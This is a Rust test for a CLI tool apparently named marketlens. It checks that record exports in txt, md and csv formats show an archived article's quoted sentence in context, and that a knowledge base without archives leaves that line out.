/// A record's export shows its quote in the sentence around it in the archived article, the
/// quoted words set apart in each format; a KB without archives shows the quote alone.
#[test]
fn a_record_export_shows_the_quote_in_its_article() {
    let kb = "tests/fixtures/good/archived_reader";
    let want = [
        (
            "txt",
            "> in the article: 在客户方面，「港口集团把调度系统整体迁到了港湾云」，项目在十月完成。",
        ),
        (
            "md",
            "> in the article: 在客户方面，**港口集团把调度系统整体迁到了港湾云**，项目在十月完成。",
        ),
        (
            "csv",
            "In the article,在客户方面，港口集团把调度系统整体迁到了港湾云，项目在十月完成。",
        ),
    ];
    for (format, line) in want {
        let o = marketlens(&[
            "export",
            "--kb",
            kb,
            "--record",
            "harbor-port-2025",
            "--format",
            format,
        ]);
        assert!(o.status.success(), "{}", stderr(&o));
        let out = stdout(&o);
        assert!(out.lines().any(|l| l == line), "{format}: no {line:?} in\n{out}");
    }
    let o = marketlens(&["export", "--record", "aliyun", "--format", "txt"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        !stdout(&o).contains("in the article"),
        "the built-in KB has no archives"
    );
}
